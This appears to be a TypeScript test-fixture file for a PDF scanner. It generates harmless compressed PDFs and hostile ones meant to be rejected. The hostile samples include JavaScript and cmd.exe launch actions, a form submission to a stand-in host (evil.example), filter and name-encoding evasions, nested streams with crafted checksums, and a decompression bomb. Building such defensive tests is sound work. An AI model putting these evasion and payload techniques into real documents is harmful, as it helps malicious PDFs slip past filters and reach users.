import assert from "node:assert/strict";
import { deflateSync } from "node:zlib";

interface Compressed {
  /** Entries of the stream's dictionary that say what it is and how it is compressed. */
  readonly entries?: string;
  readonly encode?: (objects: Buffer) => Buffer;
  /** Between the keyword and the dictionary. */
  readonly before?: string;
  /** In the trailer's dictionary. */
  readonly trailer?: string;
}

const FLATE = "/Type /ObjStm /N 4 /First 24 /Filter /FlateDecode";

/**
 * A PDF as modern writers make it: its catalog, pages, and fonts are compressed together in an object stream (ISO 32000-1,
 * section 7.5.7), and so is its table of places. `more` is a fifth object, to which nothing refers.
 */
export function compressedPdf(
  more: string,
  { entries = FLATE, encode = deflateSync, before = "\n", trailer = "" }: Compressed = {},
): Buffer {
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    more,
  ];
  const numbers = [1, 2, 3, 4];
  let at = 0;
  const table = numbers.map((number, index) => {
    const entry = `${number} ${at}`;
    at += (objects[index]?.length ?? 0) + 1;
    return entry;
  });
  const head = `${table.join(" ")} `.padEnd(24);
  const content = encode(Buffer.from(`${head}${objects.join("\n")}`, "latin1"));
  const start = Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1");
  const stream = Buffer.concat([
    Buffer.from(`5 0 obj${before}<< ${entries} /Length ${content.length} >>\nstream\n`, "latin1"),
    content,
    Buffer.from("\nendstream\nendobj\n", "latin1"),
  ]);
  const tableAt = start.length + stream.length;
  // Kind, place, and index: objects 1 to 4 are in stream 5.
  const rows = [[0, 0, 255], ...numbers.map((_, index) => [2, 5, index]), [1, start.length, 0], [1, tableAt, 0]];
  const places = deflateSync(
    Buffer.from(rows.flatMap(([kind = 0, place = 0, index = 0]) => [kind, place >> 8, place & 255, index])),
  );
  const end = Buffer.concat([
    Buffer.from(
      `6 0 obj\n<< /Type /XRef /Size 7 /W [1 2 1] /Root 1 0 R ${trailer} /Filter /FlateDecode /Length ${places.length} >>\nstream\n`,
    ),
    places,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${tableAt}\n%%EOF\n`),
  ]);
  return Buffer.concat([start, stream, end]);
}

const SCRIPT = "<< /S /JavaScript /JS (app.alert(1)) >>";
const hex = (content: Buffer): Buffer => Buffer.from(`${content.toString("hex")}>`);

/** What is accepted. */
export const harmlessCompressed: readonly (readonly [string, Buffer])[] = [
  ["an object stream", compressedPdf("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")],
  ["text about scripts", compressedPdf("(about /JSON and JavaScript)")],
  [
    "an object stream in hexadecimal",
    compressedPdf("(a)", {
      entries: "/Type /ObjStm /N 4 /First 24 /Filter [/ASCIIHexDecode /FlateDecode]",
      encode: (objects) => hex(deflateSync(objects)),
    }),
  ],
  ["without a predictor", compressedPdf("(a)", { entries: `${FLATE} /DecodeParms << /Predictor 1 >>` })],
];

/** Scripts, and what else acts, in object streams; and streams that hide whether they have any. */
export const hostileCompressed: readonly (readonly [string, Buffer, RegExp])[] = [
  ["a script", compressedPdf(SCRIPT), /scripts/],
  ["a script with its name in codes", compressedPdf("<< /S /J#61va#53cript /JS (a) >>"), /scripts/],
  ["a program", compressedPdf("<< /S /Launch /F (cmd.exe) >>"), /scripts/],
  ["a file", compressedPdf("<< /Names << /EmbeddedFiles 7 0 R >> >>"), /scripts/],
  ["a form that is sent", compressedPdf("<< /S /SubmitForm /F (https://evil.example) >>"), /scripts/],
  ["a media player", compressedPdf("<< /Subtype /RichMedia >>"), /scripts/],
  ["an XFA form", compressedPdf("<< /XFA 8 0 R >>"), /scripts/],
  ["a name at the end of the stream", compressedPdf("/JavaScript"), /scripts/],
  ["a stream without its type", compressedPdf(SCRIPT, { entries: "/N 4 /First 24 /Filter /FlateDecode" }), /scripts/],
  [
    "a stream with its names in codes",
    compressedPdf(SCRIPT, { entries: "/Type /Ob#6aStm /N 4 /F#69rst 24 /Filter /Flate#44ecode" }),
    /scripts/,
  ],
  ["an abbreviated filter", compressedPdf(SCRIPT, { entries: "/N 4 /First 24 /Filter /Fl" }), /scripts/],
  [
    "a chain of filters",
    compressedPdf(SCRIPT, {
      entries: "/N 4 /First 24 /Filter [/AHx /AHx /FlateDecode]",
      encode: (objects) => hex(hex(deflateSync(objects))),
    }),
    /scripts/,
  ],
  ["a comment before the dictionary", compressedPdf(SCRIPT, { before: " % << /Length 1 >>\n" }), /scripts/],
  [
    "a stream that a text seems to end",
    compressedPdf(SCRIPT, { entries: `/T (\\) >> stream endstream) ${FLATE}` }),
    /scripts/,
  ],
  [
    "a stream within another one",
    compressedPdf("(a)", { entries: "/N 1", encode: () => compressedPdf(SCRIPT).subarray(15) }),
    /scripts/,
  ],
  ["a filter that is elsewhere", compressedPdf(SCRIPT, { entries: "/N 4 /First 24 /Filter 7 0 R" }), /cannot be read/],
  [
    "a filter nobody uses here",
    compressedPdf(SCRIPT, { entries: "/N 4 /First 24 /Filter /LZWDecode" }),
    /cannot be read/,
  ],
  ["two filters of one name", compressedPdf(SCRIPT, { entries: `${FLATE} /Filter /ASCIIHexDecode` }), /cannot be read/],
  [
    "a predictor",
    compressedPdf(SCRIPT, { entries: `${FLATE} /DecodeParms << /Predictor 12 /Columns 4 >>` }),
    /cannot be read/,
  ],
  [
    "parameters that are elsewhere",
    compressedPdf(SCRIPT, { entries: `${FLATE} /DecodeParms 7 0 R` }),
    /cannot be read/,
  ],
  ["content of another file", compressedPdf(SCRIPT, { entries: `${FLATE} /F (x.bin)` }), /cannot be read/],
  [
    "damaged content",
    compressedPdf(SCRIPT, { encode: (objects) => deflateSync(objects).subarray(0, -8) }),
    /cannot be read/,
  ],
  ["a bomb", compressedPdf("a".repeat(40_000_000)), /cannot be read/],
  ["a dictionary without an end", Buffer.from(`%PDF-1.7\n1 0 obj << /A ${"[".repeat(200)}\n%%EOF`), /cannot be read/],
  ["encryption", compressedPdf(SCRIPT, { trailer: "/Encrypt 9 0 R" }), /encrypted.*print it to a new PDF/],
];

const ADLER_BASE = 65_521;
const storedBlock = (length: number): Buffer =>
  Buffer.from([0, length & 0xff, length >> 8, ~length & 0xff, (~length >> 8) & 0xff]);

/** A head of a stream that leaves the checksum (RFC 1950) as it is: its bytes add up to 0, and so do their sums. */
function neutralHead(): Buffer {
  const [before, after] = ["1 0 obj<</First 1/Filter/Fl/X(", ")>>stream\n\x78\x01"].map((text) =>
    Buffer.from(text, "latin1"),
  );
  assert(before !== undefined && after !== undefined);
  const filler = Buffer.alloc(600, 0x60);
  const head = Buffer.concat([before, filler, after]);
  const first = before.length;
  const sum = head.reduce((total, byte) => total + byte, 0);
  // Evenly, then one byte more here and one less there until the second sum is 0 as well.
  for (let left = ADLER_BASE - sum, at = 0; left > 0; left -= 1, at += 1)
    head.writeUInt8((head[first + (at % 600)] ?? 0) + 1, first + (at % 600));
  const second = () => head.reduce((total, byte, at) => total + (head.length - at) * byte, head.length) % ADLER_BASE;
  for (let missing = (ADLER_BASE - second()) % ADLER_BASE, at = 0; missing > 0; at += 1) {
    const distance = Math.min(missing, 599 - 2 * (at % 200));
    const [more, less] = [first + (at % 200), first + (at % 200) + distance];
    head.writeUInt8((head[more] ?? 0) + 1, more);
    head.writeUInt8((head[less] ?? 0) - 1, less);
    missing -= distance;
  }
  return head;
}

/** Streams that begin one after the other, each the text of the one before, and end with the same blocks without text. */
export function nestedStreams({ streams, sharedBytes }: { streams: number; sharedBytes: number }): Buffer {
  const head = neutralHead();
  const starts = Array.from({ length: streams }, () => [head, storedBlock(head.length)]).flat();
  const shared = Buffer.concat([
    Buffer.alloc(sharedBytes, storedBlock(0)),
    Buffer.from([1, 0, 0, 0xff, 0xff, 0, 0, 0, 1]),
  ]);
  return Buffer.concat([Buffer.from("%PDF-1.7\n"), ...starts, head, shared, Buffer.from("endstream\n%%EOF")]);
}
